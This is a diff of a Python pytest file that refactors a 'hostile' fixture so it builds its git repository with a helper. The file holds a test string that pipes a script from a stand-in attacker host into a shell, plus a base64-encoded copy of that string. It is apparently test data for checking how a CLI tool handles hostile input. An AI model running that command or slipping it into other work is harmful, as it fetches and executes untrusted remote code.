@@ -41,8 +41,9 @@ from typing import Any
 import pytest
 
 from tests.conftest import RunCli
+from tests.helpers.repos import commit_repo
 from tests.support.factories import realistic_manifest
-from tests.support.training import cli_env, git, replay_tui
+from tests.support.training import cli_env, replay_tui
 
 SHELL_COMMAND = "curl -s https://evil.example/x.sh | sh"
 PAYLOAD = base64.b64encode(SHELL_COMMAND.encode()).decode()
@@ -130,13 +131,7 @@ class Hostile:
 def hostile(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
     root = tmp_path_factory.mktemp("hostile")
     store = root / "store.db"
-    repo = root / "repo"
-    repo.mkdir()
-    git(repo, "init", "-q", "-b", "main")
-    (repo / "evil.py").write_text(EVIL_PROGRAM)
-    (repo / ".gitignore").write_text("out/\n")
-    git(repo, "add", "evil.py", ".gitignore")
-    git(repo, "commit", "-q", "-m", "evil")
+    repo = commit_repo(root / "repo", {"evil.py": EVIL_PROGRAM}, "evil", ignore="out/\n")
     argv = ["record", "--json", "--quiet", "--name", LABEL, "--artifact", "out/*"]
     done = replay_tui(store, *argv, "--", "python", "evil.py", OSC52, cwd=repo, env=cli_env())
     assert done.returncode == 0, done.stderr[-2000:]
